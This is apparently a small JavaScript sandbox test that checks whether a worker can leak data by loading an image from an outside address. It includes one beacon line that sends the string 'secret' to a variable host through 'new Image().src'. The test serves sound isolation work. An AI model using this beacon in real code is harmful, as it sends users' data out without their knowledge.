// A picture by its address.
// tries: load a picture with `new Image`, the oldest way to send something out
// must: find no pictures: workers have no document
// refusal: Image is not defined
new Image().src = `${OUT}.png?secret`;
console.log('escaped: there is a picture');
